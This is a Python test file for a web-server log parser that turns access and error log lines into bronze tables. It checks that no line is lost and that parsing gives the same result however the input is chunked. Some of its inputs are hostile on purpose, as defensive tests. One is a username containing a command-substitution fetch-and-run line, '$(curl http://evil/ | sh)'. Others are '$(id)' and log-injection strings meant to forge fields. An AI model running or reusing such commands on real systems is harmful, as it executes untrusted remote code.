"""A landed file to bronze: nothing lost, nothing twice, and the same however it is cut.

What belongs here: the properties of whole files, access lines, the facts, the site and the window.

What does not: cutting (`test_lines`), error entries (`test_errors`), file names (`test_formats`).
"""

from __future__ import annotations

import hashlib
import io
from datetime import UTC, date, datetime
from typing import Any

import polars as pl
import pytest
from blake3 import blake3
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline_assets.kernel import lines as reading_lines
from pipeline_assets.kernel import parse, texts
from pipeline_assets.kernel.heads import has_first_line
from pipeline_assets.kernel.parse import FileReader, ReadOptions
from pipeline_assets_tests.kernel.rebuild import (
    ANY_TIME,
    Bronze,
    access_line,
    check_raw_is_needed,
    composed_request,
    is_uncounted,
    joined,
    looks_compressed,
    read,
    rebuilt,
    without_blank_and_comment_lines,
)

PROPERTY = settings(deadline=None, max_examples=50, suppress_health_check=[HealthCheck.too_slow])
CHUNKED = settings(deadline=None, max_examples=15, suppress_health_check=[HealthCheck.too_slow])

# ---- strategies ----------------------------------------------------------------------------------------
_WORDS = st.sampled_from(["-", "frank", "", '""', "a b", "josé", "x[1]", "$(id)", "a\\x22b", "-]", "\ud7ff"])
_HOSTS = st.sampled_from(
    [
        "203.0.113.7", "2001:db8::1", "::1", "client.example.org", "-", "1.2.3", "x:80", "unix:", "fe80::1%eth0",
        "203.0.113.7, 10.0.0.1", "unknown,10.0.0.1, 10.0.0.2", "1.1.1.1 - [1.1.1.1]",
    ]
)  # fmt: skip
_TIMES = st.sampled_from(
    [
        "17/Dec/2025:09:03:01 +0000",
        "29/Feb/2024:23:59:59 -0700",
        "30/Feb/2024:23:59:59 -0700",
        "31/Dec/1999:23:59:60 +0000",
        "01/Jan/1970:00:00:00 +1400",
        "01/Jan/0000:00:00:00 -0000",
        "17/Dec/2025:24:00:00 -0330",
        "17/DEC/2025:09:03:01 -0000",
        "17/Dec/2025:09:03:01 +9999",
        "17/Dec/9999:09:03:01 +0000",
        " 7/Dec/2025:09:03:01.25 +0000",
        "7/Dec/2025:09:03:01",
        "2025-12-17T09:03:01+03:30",
        "2025-12-17 09:03:01,123456789",
        "2025-12-17T09:03:01Z",
    ]
)
_REQUESTS = st.sampled_from(
    [
        "GET / HTTP/1.1",
        "-",
        "",
        "\\x16\\x03\\x01",
        "GET  /a  b HTTP/1.0",
        "GET /",
        "G",
        "\\",
        '\\"',
        "é è HTTP/2",
        '"',
    ]
)
_NUMBERS = st.sampled_from(
    ["-", "0", "00", "200", "099", "1000", "9223372036854775807", "9223372036854775808", "9" * 40, "٣", "-1"]
)
_TAILS = st.sampled_from(
    [
        "",
        " ",
        ' "-" "-"',
        ' "" ""',
        ' "https://example.org/" "Mozilla/5.0 (\\"x\\")"',
        ' "-" "-" "203.0.113.9, 10.0.0.1"',
        ' "-" "-" "-"',
        ' "-" "-" "\x01\\x7f\t\u2028 \U0001f600"',
        " - -",
        " - - -",
        ' "-" "Mozilla',
        ' "-" "Mozilla\\',
        ' "a" "b" "c" "d"',
        ' "a" "b" 0.123 [x y] k="v w"',
        " 12 - 0.5",
        "  8",
        ' "a" "b" 12 "r@file" "http://10.0.0.1:80" 5ms',
        ' "a" "b" HTTP/1.1" 200 12 "-" "c"',
        ' "a" "b "c" d"',
        ' "a" "b" "c',
        ' "-"  "-"',
    ]
)
_VHOSTS = st.sampled_from(
    ["", "", "example.org ", "www.example.org:443 ", "[::1]:80 ", "a:0080 ", "_:80 ", "x:99999 "]
)
_ACCESS = st.builds(
    access_line,
    vhost=_VHOSTS,
    host=_HOSTS,
    identity=_WORDS,
    user=_WORDS,
    time=_TIMES,
    request=_REQUESTS,
    status=_NUMBERS,
    bytes=_NUMBERS,
    tail=_TAILS,
)
_MESSAGES = st.sampled_from(
    [
        "signal process started",
        'open() "/x" failed (2: No such file or directory)',
        'a, client: 1.2.3.4, server: x, request: "GET / HTTP/1.1", host: "x"',
        'a "b, client: 6.6.6.6, server: x',
        ", client: ",
        "",
        " ",
        "(13)Permission denied: AH00132: no access",
        "AH01630: client denied, referer: http://example.org/",
        "x, referer: a, referer: b",
        "[client 1.2.3.4:5] x",
        "[client ::1] x",
        "*7 x",
        "*99999999999999999999 x",
        "mod_x.c(820): [client [::1]:99999] AH00001: y",
        "é\t",
    ]
)
_ERROR_HEADS = st.sampled_from(
    [
        "2025/12/17 09:03:01 [error] 7#8: ",
        "2025/02/30 09:03:01 [error] 7#8: ",
        "2025/12/17 09:03:01 [crit] 99999999999999999999#0: *5 ",
        "[Wed Dec 17 09:03:01.000123 2025] [core:error] [pid 7:tid 8] ",
        "[Wed Dec 17 09:03:01 2025] [:trace8] [pid 7] ",
        "[Thu Dec 17 09:03:01.5 2025] [core:error] [pid 007] ",
        "[Wed Dec  7 09:03:01 2025] [error] ",
        "[Wed Dec 17 09:03:01 2025] [notice] [pid 7] ",
        "[2025-12-17 09:03:01.123456789] [core:warn] [pid 7] ",
        "[17/Dec/2025:09:03:01 +0100] [ab:alert] [pid 7:tid 8] ",
    ]
)
_ERROR = st.builds(lambda head, message: (head + message).encode(), _ERROR_HEADS, _MESSAGES)
_OTHER = st.sampled_from(
    [
        b"",
        b" ",
        b"\r",
        b"\t\x0b\x0c",
        b"#",
        b"#Fields: date",
        b"#0 {main}",
        b"Stack trace:",
        b"\xff\xfe",
        b"\0",
        b"#\xff",
    ]
)
_WELL_FORMED = st.one_of(_ACCESS, _ERROR)


@st.composite
def _mutated(draw: st.DrawFn) -> bytes:
    line = draw(_WELL_FORMED)
    for _ in range(draw(st.integers(1, 3))):
        begin = draw(st.integers(0, len(line)))
        end = begin + draw(st.integers(0, 2))
        line = (
            line[:begin]
            + draw(st.sampled_from([b"", b"\r", b'"', b"\\", b" ", b"\xe9", b"\0", b"-", b"7"]))
            + line[end:]
        )
    return line


_LINES = st.lists(st.one_of(_ACCESS, _ERROR, _OTHER, _mutated(), st.binary(max_size=12)), max_size=12)
_FILES = st.builds(
    lambda lines, separator, end: separator.join(lines) + end,
    _LINES,
    st.sampled_from([b"\n", b"\n", b"\r\n"]),
    st.sampled_from([b"", b"\n", b"\r"]),
).filter(lambda content: not looks_compressed(content))


def check_conservation(content: bytes, bronze: Bronze) -> None:
    """Promise 1, for a file that is not compressed and has no line over the limit."""
    facts = bronze.facts
    lines = content.split(b"\n")
    if not lines[-1]:
        lines.pop()
    assert facts.bytes == len(content)
    assert facts.digest == blake3(content).hexdigest()
    assert facts.lines == len(lines)
    assert facts.blank + facts.comment == sum(
        is_uncounted(line, is_first=number == 0) for number, line in enumerate(lines)
    )
    assert facts.lines == facts.parsed + facts.continuation + facts.rejected + facts.blank + facts.comment
    assert (facts.requests, facts.errors) == (len(bronze.requests), len(bronze.errors))
    assert facts.parsed == facts.requests + facts.errors
    assert facts.rejected == len(bronze.rejected)
    assert facts.continuation == sum(row["line_count"] - 1 for row in bronze.errors)
    assert sum(facts.event_days.values()) == facts.requests
    assert sum(facts.error_days.values()) == facts.errors
    starts = [0]
    for line in lines:
        starts.append(starts[-1] + len(line) + 1)
    for row in (*bronze.requests, *bronze.errors, *bronze.rejected):
        assert row["byte_offset"] == starts[row["line_number"] - 1]
    for row in bronze.rejected:
        assert row["line"] == lines[row["line_number"] - 1]


# ---- properties ----------------------------------------------------------------------------------------
@PROPERTY
@given(_FILES)
def test_every_line_is_accounted_for_and_rebuilt(content: bytes) -> None:
    bronze = read(content)
    check_conservation(content, bronze)
    check_raw_is_needed(bronze)

    content = without_blank_and_comment_lines(content)
    bronze = read(content)
    assert bronze.facts.blank == bronze.facts.comment == 0
    assert rebuilt(bronze) == content


@PROPERTY
@given(st.lists(st.one_of(_ACCESS, _ERROR), min_size=10, max_size=40))
def test_lines_in_the_formats_of_servers_are_rebuilt(lines: list[bytes]) -> None:
    content = joined(lines)
    bronze = read(content)
    check_conservation(content, bronze)
    check_raw_is_needed(bronze)
    assert rebuilt(bronze) == content


@PROPERTY
@given(st.binary(max_size=300))
def test_any_bytes_are_accounted_for(content: bytes) -> None:
    if looks_compressed(content):
        content = b"x" + content
    bronze = read(content)
    check_conservation(content, bronze)
    assert rebuilt(read(without_blank_and_comment_lines(content))) == without_blank_and_comment_lines(content)


@CHUNKED
@given(_FILES, st.integers(1, 300), st.sampled_from([1, 3, 40, 150, 10_000]))
def test_chunks_never_show(content: bytes, chunk_bytes: int, max_line_bytes: int) -> None:
    whole = read(content, max_line_bytes=max_line_bytes)
    facts = whole.facts
    assert facts.lines == facts.parsed + facts.continuation + facts.rejected + facts.blank + facts.comment
    for size in (1, chunk_bytes):
        assert read(content, max_line_bytes=max_line_bytes, chunk_bytes=size) == whole


@PROPERTY
@given(_FILES)
def test_the_quick_way_gives_the_rows_of_the_strict_one(content: bytes) -> None:
    assert read(content) == read(content, quick=False)


def test_every_size_of_chunk_gives_the_same() -> None:
    error = b"2025/12/17 09:03:01 [error] 7#8: x"
    content = joined(
        [access_line(), error, b"more", b"\xff", b"", b"#0 {main}", error, b"#0 {main}", access_line()]
    )
    whole = read(content)
    assert (whole.facts.parsed, whole.facts.continuation, whole.facts.rejected) == (4, 3, 1)
    for size in [*range(1, 12), *range(12, len(content) + 2, 23)]:
        assert read(content, chunk_bytes=size) == whole


# ---- text that is not UTF-8 ----------------------------------------------------------------------------
@pytest.mark.parametrize("count", [1, 3, 5000])
@pytest.mark.parametrize("every", [1, 2, 1500])
def test_invalid_utf8_is_written_as_escapes_and_kept_raw(count: int, every: int) -> None:
    good, bad = access_line(), access_line(tail=' "-" "caf?"').replace(b"?", b"\xe9")
    lines = [good if number % every else bad for number in range(count)]
    bronze = read(joined(lines))
    assert [row["user_agent"] for row in bronze.requests] == [
        "Mozilla/5.0" if number % every else "caf\\xe9" for number in range(count)
    ]
    assert [row["raw"] for row in bronze.requests] == [None if line is good else line for line in lines]


def test_text_of_mixed_lines() -> None:
    values = [
        b"",
        b"ok",
        "Größe €".encode(),
        b"\xff",
        b"a long line that is not inlined \xc3",
        b"a\r",
        b"\xc3\r",
        b"\\xff",
    ]
    frame = pl.DataFrame(
        {"line_number": range(len(values)), "byte_offset": 0, "line": values, "fault": None},
        schema_overrides={"line": pl.Binary},
    )
    read_texts = texts.with_text(frame)
    assert read_texts["text"].to_list() == [
        "", "ok", "Größe €", "\\xff", "a long line that is not inlined \\xc3", "a", "\\xc3", "\\xff"
    ]  # fmt: skip
    assert read_texts["repaired"].to_list() == [False, False, False, True, True, True, True, False]
    assert read_texts["line"].to_list() == values


def test_a_line_that_looks_like_a_repaired_one_is_not_kept_raw() -> None:
    assert read(access_line(tail=' "-" "caf\\xe9"')).request["raw"] is None


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-16"])
def test_utf16_is_rejected_and_kept(encoding: str) -> None:
    content = (access_line().decode() + "\n").encode(encoding) * 2
    bronze = read(content)
    check_conservation(content, bronze)
    assert not bronze.requests
    assert rebuilt(bronze) == content


def test_a_byte_order_mark_is_no_part_of_the_first_word() -> None:
    mark = b"\xef\xbb\xbf"
    content = mark + access_line() + b"\n" + mark + access_line() + b"\n"
    for chunk_bytes in (1, 1000):
        bronze = read(content, chunk_bytes=chunk_bytes)
        assert [row["remote_host"] for row in bronze.requests] == ["203.0.113.7", "\ufeff203.0.113.7"]
        assert rebuilt(bronze) == content
    for content, counts in ((mark, (1, 0)), (mark + b" \r\n", (1, 0)), (mark + b"#Version: 1.0\n", (0, 1))):
        facts = read(content).facts
        assert (facts.blank, facts.comment, facts.lines) == (*counts, 1)


def test_zero_bytes_before_a_line_are_no_address() -> None:
    content = b"\0" * 100 + access_line() + b"\n" + access_line() + b"\n" + b"\0" * 9 + b"\n"
    bronze = read(content)
    assert bronze.reasons == ["binary"]
    assert [row["remote_host"] for row in bronze.requests] == ["203.0.113.7"] * 2
    assert [row["raw"] is None for row in bronze.requests] == [False, True]
    assert rebuilt(bronze) == content


def test_carriage_returns_are_kept_raw_and_in_no_column() -> None:
    content = access_line() + b"\r\n" + access_line(tail="") + b"\r\n"
    bronze = read(content)
    assert [row["user_agent"] for row in bronze.requests] == ["Mozilla/5.0", None]
    assert [row["bytes"] for row in bronze.requests] == [1234, 1234]
    assert rebuilt(bronze) == content


def test_the_last_line_needs_no_line_feed() -> None:
    bronze = read(access_line() + b"\n" + access_line())
    assert [row["line_number"] for row in bronze.requests] == [1, 2]
    assert rebuilt(bronze) == access_line() + b"\n" + access_line()


# ---- columns of a request ------------------------------------------------------------------------------
def test_every_column_of_a_combined_line() -> None:
    row = read(access_line(identity="id", user="frank", time="17/Dec/2025:09:03:01 -0330")).request
    assert row == {
        "remote_host": "203.0.113.7",
        "identity": "id",
        "user": "frank",
        "timestamp": datetime(2025, 12, 17, 12, 33, 1, tzinfo=UTC),
        "utc_offset_minutes": -210,
        "request": "GET /a?b=c HTTP/1.1",
        "method": "GET",
        "target": "/a?b=c",
        "protocol": "HTTP/1.1",
        "status": 200,
        "bytes": 1234,
        "referer": "https://example.org/",
        "user_agent": "Mozilla/5.0",
        "vhost": None,
        "port": None,
        "duration_us": None,
        "extra": None,
        "site": "default",
        "format": "combined",
        "source_file": "logs/x/any.log",
        "line_number": 1,
        "byte_offset": 0,
        "raw": None,
    }


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"tail": ""}, {"format": "common", "referer": None, "user_agent": None}),
        ({"tail": ' "-" "-"'}, {"format": "combined", "referer": None, "user_agent": None}),
        ({"tail": ' "" ""'}, {"format": "combined", "referer": "", "user_agent": ""}),
        ({"tail": ' "-" "-" "-"'}, {"format": "nginx_main", "extra": None}),
        ({"tail": ' "-" "x" "1.2.3.4"'}, {"format": "nginx_main", "extra": '{"forwarded_for":"1.2.3.4"}'}),
        ({"bytes": "-"}, {"bytes": None}),
        ({"bytes": "0"}, {"bytes": 0}),
        ({"status": "-"}, {"status": None}),
        ({"bytes": "9223372036854775807"}, {"bytes": 2**63 - 1}),
        ({"vhost": "example.org:8080 "}, {"vhost": "example.org", "port": 8080, "format": "vhost_combined"}),
        ({"vhost": "example.org "}, {"vhost": "example.org", "port": None, "remote_host": "203.0.113.7"}),
        ({"vhost": "example.org:80 ", "tail": ""}, {"format": "vhost_common", "site": "example.org"}),
        ({"host": "2001:db8::1"}, {"remote_host": "2001:db8::1", "vhost": None}),
        ({"vhost": "a.org:80 ", "host": "2001:db8::1"}, {"remote_host": "2001:db8::1", "vhost": "a.org"}),
        ({"user": ""}, {"user": ""}),
        ({"user": '""'}, {"user": ""}),
        ({"user": "Jane Q. Doe"}, {"user": "Jane Q. Doe"}),
        ({"user": "$(curl http://evil/ | sh); [x]"}, {"user": "$(curl http://evil/ | sh); [x]"}),
        ({"tail": ' "-" "Mozilla/5.0 (cut'}, {"user_agent": "Mozilla/5.0 (cut", "format": "combined"}),
        ({"tail": ' "-" "Mozilla\\'}, {"user_agent": "Mozilla\\"}),
        ({"tail": ' "-" "say \\"hi\\" \\x22"'}, {"user_agent": 'say \\"hi\\" \\x22'}),
    ],
)  # fmt: skip
def test_fields(fields: dict[str, str], expected: dict[str, Any]) -> None:
    content = access_line(**fields)
    bronze = read(content)
    assert {name: bronze.request[name] for name in expected} == expected
    assert rebuilt(bronze) == content


@pytest.mark.parametrize(
    "request_text", ["\\x16\\x03\\x01", "-", "", "GET", "t3 12.1.2", "\\x03 / HTTP/1.1", " "]
)
def test_garbage_requests_are_rows_with_their_facts(request_text: str) -> None:
    row = read(access_line(request=request_text, status="400", bytes="150")).request
    assert (row["method"], row["target"], row["protocol"]) == (None, None, None)
    assert row["request"] == (None if request_text == "-" else request_text)
    assert (row["remote_host"], row["status"], row["bytes"]) == ("203.0.113.7", 400, 150)


@pytest.mark.parametrize(
    ("request_text", "words"),
    [
        ("GET / HTTP/1.1", ("GET", "/", "HTTP/1.1")),
        ("GET / HTTP/2", ("GET", "/", "HTTP/2")),
        ("GET /a b c HTTP/1.1", ("GET", "/a b c", "HTTP/1.1")),
        ("GET /very-long", ("GET", "/very-long", None)),
        ("CONNECT example.org:443 HTTP/1.1", ("CONNECT", "example.org:443", "HTTP/1.1")),
        ("OPTIONS * HTTP/1.0", ("OPTIONS", "*", "HTTP/1.0")),
        ("get http://example.org/ HTTP/1.1", ("get", "http://example.org/", "HTTP/1.1")),
        ('GET /\\"x\\" HTTP/1.1', ("GET", '/\\"x\\"', "HTTP/1.1")),
        ("GET /\\x22\\x5c HTTP/1.1", ("GET", "/\\x22\\x5c", "HTTP/1.1")),
    ],
)
def test_request_lines(request_text: str, words: tuple[str, str, str | None]) -> None:
    row = read(access_line(request=request_text)).request
    assert (row["method"], row["target"], row["protocol"]) == words
    assert row["request"] == request_text


@pytest.mark.parametrize(
    "fields",
    [
        {"user": '- [01/Jan/2020:00:00:00 +0000] \\"GET /evil HTTP/1.1\\" 200 666 \\"-\\" \\"-\\"'},
        {"user": "x [01/Jan/2020:00:00:00 +0000]"},
        {"request": 'GET /\\" 500 666 \\"-\\" \\"evil HTTP/1.1'},
        {"request": "GET /\\x22 500 666 HTTP/1.1"},
        {"tail": ' "-\\" \\"evil\\" \\"-" "x"'},
        {"tail": ' "-" "x\\" 500 666"'},
        {"tail": ' "-" "\\n6.6.6.6 - - [01/Jan/2020:00:00:00 +0000] \\"GET /evil HTTP/1.1\\" 500 666"'},
        {"host": "203.0.113.7", "request": "GET /a 6.6.6.6 HTTP/1.1"},
    ],
)  # fmt: skip
def test_a_client_can_not_forge_a_field(fields: dict[str, str]) -> None:
    row = read(access_line(**fields)).request
    assert (row["remote_host"], row["status"], row["bytes"]) == ("203.0.113.7", 200, 1234)
    assert row["timestamp"] == datetime(2025, 12, 17, 9, 3, 1, tzinfo=UTC)
    assert row["vhost"] is None


def test_a_user_name_can_not_become_the_client() -> None:
    # Before the client there is nothing the client can write, so the first address is its own.
    row = read(access_line(identity="6.6.6.6")).request
    assert (row["remote_host"], row["vhost"]) == ("203.0.113.7", None)
    row = read(access_line(host="client.example.org", identity="-", user="6.6.6.6 - -")).request
    assert (row["remote_host"], row["vhost"]) == ("client.example.org", None)


@pytest.mark.parametrize(
    ("time", "moment", "offset"),
    [
        ("29/Feb/2024:00:00:00 +0000", datetime(2024, 2, 29, tzinfo=UTC), 0),
        ("17/Dec/2025:09:03:01 +0330", datetime(2025, 12, 17, 5, 33, 1, tzinfo=UTC), 210),
        ("17/Dec/2025:09:03:01 +1400", datetime(2025, 12, 16, 19, 3, 1, tzinfo=UTC), 840),
        ("31/Dec/2025:23:30:00 -0100", datetime(2026, 1, 1, 0, 30, tzinfo=UTC), -60),
    ],
)
def test_times(time: str, moment: datetime, offset: int) -> None:
    row = read(access_line(time=time)).request
    assert (row["timestamp"], row["utc_offset_minutes"], row["raw"]) == (moment, offset, None)


def test_a_zone_of_minus_zero_is_kept_raw() -> None:
    line = access_line(time="17/Dec/2025:09:03:01 -0000")
    row = read(line).request
    assert (row["utc_offset_minutes"], row["raw"]) == (0, line)


@pytest.mark.parametrize(
    ("fields", "reason"),
    [
        ({"time": "31/Feb/2025:09:03:01 +0000"}, "invalid_time"),
        ({"time": "29/Feb/2025:09:03:01 +0000"}, "invalid_time"),
        ({"time": "17/Dec/2025:09:03:01 +9999"}, "invalid_time"),
        ({"time": "17/Dec/2025:09:03:01 +1401"}, "invalid_time"),
        ({"time": "17/Dec/2025:09:03:01 +0060"}, "invalid_time"),
        ({"time": "17/Dec/2025:25:03:01 +0000"}, "invalid_time"),
        ({"time": "17/Foo/2025:09:03:01 +0000"}, "invalid_time"),
        ({"bytes": "9223372036854775808"}, "invalid_number"),
        ({"bytes": "9" * 30}, "invalid_number"),
        ({"time": "17/Dec/1969:09:03:01 +0000"}, "outside_window"),
        ({"time": "01/Jan/2100:00:00:00 +0000"}, "outside_window"),
        ({"time": "17/Dec/2025 09:03:01"}, "invalid_time"),
        ({"time": "2025-02-30T09:03:01Z"}, "invalid_time"),
        ({"time": "1234"}, "invalid_time"),
        ({"status": "2000"}, "unknown_format"),
        ({"bytes": "-1"}, "unknown_format"),
    ],
)
def test_rejects(fields: dict[str, str], reason: str) -> None:
    line = access_line(**fields)
    bronze = read(line + b"\n")
    assert bronze.reasons == [reason]
    assert bronze.rejected[0]["line"] == line


def test_the_window_is_in_utc_and_leaves_out_its_last_day() -> None:
    options = ReadOptions(earliest=date(2025, 12, 17), latest=date(2025, 12, 18))
    times = {
        "16/Dec/2025:23:59:59 +0000": False,
        "17/Dec/2025:00:59:59 +0100": False,
        "16/Dec/2025:23:00:00 -0100": True,
        "17/Dec/2025:00:00:00 +0000": True,
        "17/Dec/2025:23:59:59 +0000": True,
        "18/Dec/2025:00:00:00 +0000": False,
    }
    bronze = read(joined(access_line(time=time) for time in times), options)
    assert [row["line_number"] for row in bronze.requests] == [
        number for number, inside in enumerate(times.values(), 1) if inside
    ]
    assert set(bronze.reasons) == {"outside_window"}


# ---- the site ------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("vhost", "configured", "name", "site"),
    [
        ("", None, "logs/any.log", "default"),
        ("", None, "logs/access.example.org.log", "example.org"),
        ("", "shop", "logs/access.example.org.log", "shop"),
        ("www.example.net:80 ", "shop", "logs/access.example.org.log", "www.example.net"),
        ("_:80 ", "shop", "logs/any.log", "shop"),
    ],
)
def test_the_site(vhost: str, configured: str | None, name: str, site: str) -> None:
    row = read(access_line(vhost=vhost), ReadOptions(site=configured), name).request
    assert (row["site"], row["source_file"]) == (site, name)


# ---- facts ---------------------------------------------------------------------------------------------
def test_event_days_are_utc_and_in_order() -> None:
    content = joined(
        [
            access_line(time="18/Dec/2025:00:10:00 +0100"),
            access_line(time="17/Dec/2025:12:00:00 +0000"),
            b"2025/12/19 10:00:00 [error] 1#1: x",
            access_line(time="16/Dec/2025:23:00:00 +0000"),
            b"garbage",
        ]
    )
    for chunk_bytes in (1, 1000):
        facts = read(content, chunk_bytes=chunk_bytes).facts
        assert list(facts.event_days.items()) == [(date(2025, 12, 16), 1), (date(2025, 12, 17), 2)]
        assert facts.error_days == {date(2025, 12, 19): 1}
        assert facts.first_event == datetime(2025, 12, 16, 23, tzinfo=UTC)
        assert facts.last_event == datetime(2025, 12, 19, 10, tzinfo=UTC)


def test_facts_of_an_empty_file() -> None:
    bronze = read(b"")
    empty = blake3(b"").hexdigest()
    assert bronze.facts.lines == bronze.facts.parsed == bronze.facts.bytes == 0
    assert (bronze.facts.digest, bronze.facts.head) == (empty, f"content-{empty}")
    assert bronze.facts.first_event is bronze.facts.last_event is None
    assert bronze.requests == bronze.errors == bronze.rejected == []


def test_the_head_is_that_of_the_first_whole_line() -> None:
    first = access_line()
    expected = "line-" + hashlib.sha256(first).hexdigest()
    for content in (
        first + b"\n",
        first + b"\n" + first,
        b"# x\n \n" + first + b"\nmore\n",
        b"\n" + first + b"\nx",
    ):
        for chunk_bytes in (1, 50, 1000):
            head = read(content, chunk_bytes=chunk_bytes).facts.head
            assert head == expected
            assert has_first_line(head)


@pytest.mark.parametrize("content", [b"", b"no line feed", b"\n \n# comment\n", b"# x\nunfinished"])
def test_the_head_without_a_whole_line_is_that_of_the_content(content: bytes) -> None:
    head = read(content).facts.head
    assert head == "content-" + blake3(content).hexdigest()
    assert not has_first_line(head)


def test_errors_of_the_stream_pass_through() -> None:
    class Broken(io.RawIOBase):
        def read(self, size: int = -1) -> bytes:
            raise OSError("the network is gone")

    with pytest.raises(OSError, match="network"):
        list(FileReader(Broken(), "x", ANY_TIME))


def test_a_stream_that_gives_little_at_a_time_is_read_whole() -> None:
    class Trickle(io.RawIOBase):
        def __init__(self, content: bytes) -> None:
            self.content = io.BytesIO(content)

        def read(self, size: int = -1) -> bytes:
            return self.content.read(min(size, 7))

    content = joined([access_line()] * 20)
    assert read(Trickle(content)) == read(content)


def test_the_rebuilt_line_is_what_a_server_writes() -> None:
    row = read(access_line()).request
    assert composed_request(row) == access_line()
    assert composed_request(row | {"referer": None, "status": None, "user": ""}) == (
        b'203.0.113.7 - "" [17/Dec/2025:09:03:01 +0000] "GET /a?b=c HTTP/1.1" - 1234 "-" "Mozilla/5.0"'
    )


QUICK = b'1.2.3.4 - - [17/Dec/2025:09:03:01 +0000] "GET /a HTTP/1.1" 200 5\n'


@pytest.mark.parametrize(
    "odd",
    [
        # Few lines, with nearly all bytes of their blocks.
        QUICK * 60
        + b'1.2.3.4 - - [17/Dec/2025:09:03:01 +0000] "GET /'
        + b"a" * 60_000
        + b' HTTP/9.9" 200 5\n',
        # Many lines, with hardly any bytes.
        b"x\n" * 1_000,
    ],
)
def test_what_is_left_over_waits_as_far_as_its_bytes_and_lines_are_few(
    odd: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    chunk_bytes, frame_lines = 1 << 17, 5_000
    monkeypatch.setattr(reading_lines, "FRAME_LINES", frame_lines)
    monkeypatch.setattr(parse, "FRAME_LINES", frame_lines)
    read_together: list[tuple[int, int]] = []
    read = FileReader._read

    def noted(reader: FileReader, frame: pl.DataFrame, *, last: bool) -> Any:
        read_together.append((frame.height, int(frame["line"].bin.size().sum())))
        return read(reader, frame, last=last)

    monkeypatch.setattr(FileReader, "_read", noted)
    content = QUICK * 2_000 + odd * (8 * chunk_bytes // len(odd))
    chunks = list(FileReader(io.BytesIO(content), "logs/x/a.log", ReadOptions(), chunk_bytes=chunk_bytes))
    assert sum(len(chunk.requests) + chunk.rejected.height for chunk in chunks) == content.count(b"\n")
    assert max(height for height, _ in read_together) <= 2 * frame_lines
    # A block more, with a line that is longer than that.
    assert max(size for _, size in read_together) <= 2 * chunk_bytes


def test_a_reject_keeps_no_block_in_memory() -> None:
    # These are read by the expressions, whose lines are views of blocks.
    lines = b"a.example.org:80 " + QUICK[:-1] + b' "-" "curl/8"\n'
    content = lines * 2_000 + b"no line, but longer than what a view has itself\n" + lines * 2_000
    (chunk,) = FileReader(io.BytesIO(content), "logs/x/a.log", ReadOptions())
    assert chunk.rejected["line"].to_list() == [b"no line, but longer than what a view has itself"]
    held = chunk.rejected["line"].to_arrow(compat_level=pl.CompatLevel.newest()).buffers()
    assert sum(buffer.size for buffer in held if buffer is not None) < 1_000
